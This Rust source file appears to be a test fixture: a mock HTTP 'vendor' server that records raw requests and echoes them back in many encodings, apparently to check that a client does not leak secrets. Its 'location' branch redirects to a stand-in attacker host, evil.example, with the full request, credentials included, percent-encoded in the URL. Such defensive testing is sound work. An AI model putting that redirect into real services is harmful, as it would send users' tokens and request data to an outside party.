//! A vendor that repeats all that it is sent, in every form that it can think of.
//!
//! It speaks HTTP by hand, so that it keeps the very bytes that arrive, and cuts its answers
//! where it likes.

use std::{
    collections::VecDeque,
    sync::{Arc, Mutex, MutexGuard, PoisonError},
};

use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
    task::JoinHandle,
};
use url::form_urlencoded::byte_serialize;

/// The forms in which it repeats, each the last part of a path.
pub const FORMS: [&str; 15] = [
    "plain",
    "json",
    "xml",
    "base64",
    "base64url",
    "shifted",
    "shifted-2",
    "form",
    "percent",
    "percent-lower",
    "header",
    "location",
    "error",
    "chunked",
    "dribble",
];
/// How many bytes it sends at a time where it cuts its answer.
const PIECE_BYTES: usize = 5;

/// What it says where it is asked for a token or to sign in.
#[derive(Debug, Default)]
struct Desk {
    received: Vec<Vec<u8>>,
    /// One after the other; the last stays.
    grants: VecDeque<Value>,
    cookie: Option<String>,
}

/// The vendor. It stops when it is dropped.
#[derive(Debug)]
pub struct Echo {
    port: u16,
    desk: Arc<Mutex<Desk>>,
    accepting: JoinHandle<()>,
}

impl Drop for Echo {
    fn drop(&mut self) {
        self.accepting.abort();
    }
}

fn locked(desk: &Mutex<Desk>) -> MutexGuard<'_, Desk> {
    desk.lock().unwrap_or_else(PoisonError::into_inner)
}

impl Echo {
    pub async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let desk = Arc::new(Mutex::new(Desk::default()));
        let its = desk.clone();
        let accepting = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                tokio::spawn(serve(stream, its.clone()));
            }
        });
        Self { port, desk, accepting }
    }

    pub fn origin(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// Gives this to who asks for a token, after what it was told before.
    pub fn grants(&self, answer: Value) {
        locked(&self.desk).grants.push_back(answer);
    }

    /// Gives this cookie to who signs in.
    pub fn gives_cookie(&self, value: &str) {
        locked(&self.desk).cookie = Some(value.to_owned());
    }

    /// All that it was sent, request by request, as it came over the wire.
    pub fn received(&self) -> Vec<Vec<u8>> {
        locked(&self.desk).received.clone()
    }
}

async fn serve(mut stream: TcpStream, desk: Arc<Mutex<Desk>>) {
    let Some(request) = read(&mut stream).await else { return };
    let line = String::from_utf8_lossy(&request).lines().next().unwrap_or_default().to_owned();
    let path = line.split(' ').nth(1).unwrap_or_default();
    let path = path.split('?').next().unwrap_or_default().to_owned();
    let form = path.rsplit('/').next().unwrap_or_default();
    let (granted, cookie) = {
        let mut desk = locked(&desk);
        desk.received.push(request.clone());
        let granted = (form == "token").then(|| match desk.grants.len() {
            0 | 1 => desk.grants.front().cloned(),
            _ => desk.grants.pop_front(),
        });
        (granted.flatten(), desk.cookie.clone())
    };
    let answer = match granted {
        Some(answer) => {
            let cookie = cookie.map(|value| format!("set-cookie: sid={value}; Path=/\r\n"));
            whole("200 OK", &cookie.unwrap_or_default(), &answer.to_string())
        }
        None if form == "token" => repeated("refused", &request),
        None => repeated(form, &request),
    };
    // The host may have gone away meanwhile, which is its right.
    let size = if form == "dribble" { PIECE_BYTES } else { answer.len() };
    for piece in answer.chunks(size.max(1)) {
        if stream.write_all(piece).await.is_err() || stream.flush().await.is_err() {
            return;
        }
    }
    let _ = stream.shutdown().await;
}

/// One request, head and body; none if the other end has gone.
async fn read(stream: &mut TcpStream) -> Option<Vec<u8>> {
    let mut request = Vec::new();
    let mut buffer = vec![0; 64 << 10];
    loop {
        let length = stream.read(&mut buffer).await.ok().filter(|length| *length > 0)?;
        request.extend_from_slice(&buffer[..length]);
        let Some(head) = request.windows(4).position(|end| end == b"\r\n\r\n") else { continue };
        let text = String::from_utf8_lossy(&request[..head]).to_lowercase();
        let length = text.lines().find_map(|line| line.strip_prefix("content-length: "));
        let body: usize = length.map_or(0, |length| length.parse().unwrap());
        if request.len() >= head + 4 + body {
            return Some(request);
        }
    }
}

fn whole(status: &str, headers: &str, body: &str) -> Vec<u8> {
    let length = body.len();
    let head = format!("HTTP/1.1 {status}\r\nconnection: close\r\ncontent-length: {length}\r\n");
    format!("{head}{headers}\r\n{body}").into_bytes()
}

/// Percent-encoding with small digits.
fn percent_lower(request: &[u8]) -> String {
    request.iter().fold(String::new(), |out, byte| match byte {
        b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
            out + &char::from(*byte).to_string()
        }
        byte => out + &format!("%{byte:02x}"),
    })
}

/// The request, given back in a form.
fn repeated(form: &str, request: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(request).into_owned();
    let encoded: String = byte_serialize(request).collect();
    let percent = encoded.replace('+', "%20");
    let ok = |body: &str| whole("200 OK", "", body);
    match form {
        "json" => ok(&json!({ "you": { "said": text } }).to_string()),
        "xml" => ok(&text
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('"', "&quot;")
            .replace('\'', "&apos;")),
        "base64" => ok(&STANDARD.encode(request)),
        "base64url" => ok(&URL_SAFE_NO_PAD.encode(request)),
        "shifted" => ok(&STANDARD.encode([b"x", request].concat())),
        "shifted-2" => ok(&STANDARD.encode([b"xy", request].concat())),
        "form" => ok(&encoded),
        "percent" => ok(&percent),
        "percent-lower" => ok(&percent_lower(request)),
        "header" => {
            let lines = text.lines().filter(|line| !line.is_empty()).enumerate();
            let lines = lines.map(|(number, line)| format!("x-echo-{number}: {line}\r\n"));
            whole("200 OK", &lines.collect::<String>(), "")
        }
        "location" => {
            whole("302 Found", &format!("location: https://evil.example/?{percent}\r\n"), "")
        }
        "chunked" => {
            let head = "HTTP/1.1 200 OK\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n";
            let mut answer = head.as_bytes().to_vec();
            for piece in request.chunks(PIECE_BYTES) {
                let length = format!("{:x}\r\n", piece.len());
                answer.extend([length.as_bytes(), piece, b"\r\n"].concat());
            }
            answer.extend_from_slice(b"0\r\n\r\n");
            answer
        }
        "error" => whole("500 Internal Server Error", "", &text),
        // Where a token is asked for and none is there: as a vendor refuses it, and says why.
        "refused" => {
            let why = json!({ "error": "invalid_client", "error_description": text });
            whole("400 Bad Request", "", &why.to_string())
        }
        _ => ok(&text),
    }
}
